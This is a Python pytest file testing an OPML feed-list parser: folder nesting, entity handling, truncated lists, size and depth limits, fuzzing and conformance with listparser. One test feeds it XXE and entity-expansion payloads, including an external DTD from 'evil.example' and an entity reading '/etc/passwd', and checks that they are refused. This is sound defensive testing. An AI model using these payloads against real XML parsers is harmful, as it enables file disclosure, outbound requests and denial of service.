"""Lists of feeds from anywhere."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aggregator.errors import ParseError
from aggregator.parse.opml import DEEPEST, MOST_BYTES, MOST_OUTLINES, Listed, read_opml

CORPUS = Path(os.environ.get("AGGREGATOR_CORPUS", Path(__file__).resolve().parents[3] / "../shared/corpus"))


def opml(body: str, head: str = "") -> bytes:
    return f'<?xml version="1.0"?>{head}<opml version="2.0"><body>{body}</body></opml>'.encode()


def test_feeds_with_their_folders_in_order() -> None:
    found = read_opml(
        opml(
            '<outline text="A" type="rss" xmlUrl=" http://a.example/f "/>'
            '<outline text="Tech"><outline title="Asia"><outline text="B &amp; C" xmlurl="http://b.example/"/></outline>'
            '<outline text="a page" htmlUrl="http://c.example/"/></outline>'
            '<outline type="ATOM" text="D" url="http://d.example/"/>'
        )
    ).feeds
    assert found == (
        Listed("A", "http://a.example/f", ()),
        Listed("B & C", "http://b.example/", ("Tech", "Asia")),
        Listed("D", "http://d.example/", ()),
    )


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE opml [<!ENTITY a "x">]>',
        '<!DOCTYPE opml [<!ENTITY a "xxxxxxxxxx"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE opml [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
        '<!DOCTYPE opml [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
    ],
)
def test_entities_are_refused(head: str) -> None:
    with pytest.raises(ParseError, match="entities"):
        read_opml(opml('<outline text="x" xmlUrl="http://a.example/"/>', head))
    with pytest.raises(ParseError, match="entities"):
        read_opml(opml("", head).decode().encode("utf-16"))


def test_what_a_plain_doctype_names_is_not_read(tmp_path: Path) -> None:
    (tmp_path / "opml.dtd").write_text("<!ELEMENT outline")  # whoever read it would find the list broken
    found = read_opml(
        opml('<outline text="x" xmlUrl="http://a.example/"/>', f"<!DOCTYPE opml SYSTEM '{tmp_path}/opml.dtd'>")
    )
    assert (len(found.feeds), found.broken) == (1, None)


def test_names_of_html_are_read_and_unknown_ones_are_text() -> None:
    found = read_opml(
        opml('<outline text="Caf&eacute; &unknown; &lt;b&gt;" xmlUrl="http://a.example/?a=1&amp;b=2"/>')
    ).feeds
    assert found == (Listed("Café &unknown; <b>", "http://a.example/?a=1&b=2", ()),)


def test_an_ampersand_that_nobody_escaped_is_one() -> None:
    found = read_opml(opml('<outline text="A & B&#0;\x0b" xmlUrl="http://a.example/?a=1&feed=rss2&copy=2"/>')).feeds
    assert found == (Listed("A & B", "http://a.example/?a=1&feed=rss2&copy=2", ()),)


@pytest.mark.parametrize(
    ("body", "line", "feeds"),
    [
        ("{0}{0}</body></opml>", None, 2),
        ("{0}{0}", 4, 2),
        ('{0}{0}<outline text="cut" xmlUrl="http://b.exam', 5, 2),
        ('{0}<outline text="a<b" xmlUrl="http://b.example/"/>\n{0}</body></opml>', 4, 3),
        ("{0}</outline>{0}</body></opml>", 4, 2),
        ("{0}</body></opml>\n<opml><body>{0}</body></opml>", 5, 1),
        ('{0}<outline text="a & b &c;" _x:y="1"/>\n{0}</body></opml>', None, 2),
    ],
)
def test_where_a_list_breaks_off_is_known(body: str, line: int | None, feeds: int) -> None:
    feed = '<outline text="x" xmlUrl="http://a.example/"/>\n'
    found = read_opml(f"\n<opml><body>\n{body.format(feed)}".encode())
    assert (found.broken, len(found.feeds)) == (line, feeds)


def test_bounds() -> None:
    feed = '<outline text="x" xmlUrl="http://a.example/"/>'
    with pytest.raises(ParseError, match="outlines"):
        read_opml(opml(feed * (MOST_OUTLINES + 1)))
    with pytest.raises(ParseError, match="deep"):
        read_opml(opml('<outline text="f">' * (DEEPEST + 1) + feed + "</outline>" * (DEEPEST + 1)))
    started = time.process_time()
    with pytest.raises(ParseError, match="deep"):
        read_opml(opml('<outline text="f">' * 100_000))
    assert time.process_time() - started < 5
    with pytest.raises(ParseError, match="larger"):
        read_opml(b" " * (MOST_BYTES + 1))


def test_a_feed_with_very_many_attributes_is_read() -> None:
    """To read all of them would take an hour."""
    others = " ".join(f"a{number}='x'" for number in range(300_000))
    found = read_opml(opml(f'<outline {others} text="x" xmlUrl="http://a.example/"/>'))
    assert found.feeds == (Listed("x", "http://a.example/", ()),)


@pytest.mark.parametrize("data", [b"", b"nonsense", b"<html><body>x</body></html>", b"<rss><channel/></rss>", b"{}"])
def test_what_is_no_list_is_said_so(data: bytes) -> None:
    with pytest.raises(ParseError, match="OPML"):
        read_opml(data)


@pytest.mark.parametrize("data", [b"", b"\n  \r\n"])
def test_an_empty_file_is_said_to_be_empty(data: bytes) -> None:
    with pytest.raises(ParseError, match="is empty"):
        read_opml(data)


@given(st.binary(max_size=300))
def test_any_bytes_end_in_feeds_or_a_clear_error(data: bytes) -> None:
    for document in (data, opml("").replace(b"</body>", data + b"</body>")):
        try:
            read_opml(document)
        except ParseError as error:
            assert str(error)


def test_lists_of_other_readers() -> None:
    folder = CORPUS / "opml"
    if not folder.is_dir():
        pytest.skip(f"the corpus of OPML files is not at {folder}")
    counts = {}
    for path in sorted(folder.glob("*/*")):
        try:
            counts[path.name.rsplit("-", 1)[0]] = len(read_opml(path.read_bytes()).feeds)
        except ParseError:
            counts[path.name.rsplit("-", 1)[0]] = -1
    assert counts["Subs"] == counts["SubsNoTitleAttributes"] == 207
    assert counts["opml_v1.0"] == 1
    assert counts["subscription_list.opml"] == 13


def test_the_field_agrees(tmp_path: Path) -> None:
    """Addresses that `listparser` finds in its own conformance files, we find too."""
    import listparser

    folder = CORPUS / "conformance/listparser/tests/files/opml"
    if not folder.is_dir():
        pytest.skip(f"the conformance files of listparser are not at {folder}")
    differing, compared = [], 0
    for path in sorted(folder.rglob("*.xml")):
        theirs = [feed["url"] for feed in listparser.parse(path.read_text("utf-8")).get("feeds", []) if feed["url"]]
        try:
            ours = {feed.url for feed in read_opml(path.read_bytes()).feeds}
        except ParseError:
            ours = set()
        differing += [path.name for url in theirs if url not in ours]
        compared += len(theirs)
    assert compared > 20
    assert differing == []


def test_names_that_no_parser_should_give() -> None:
    with pytest.raises(ParseError):
        read_opml(b"<:/>")
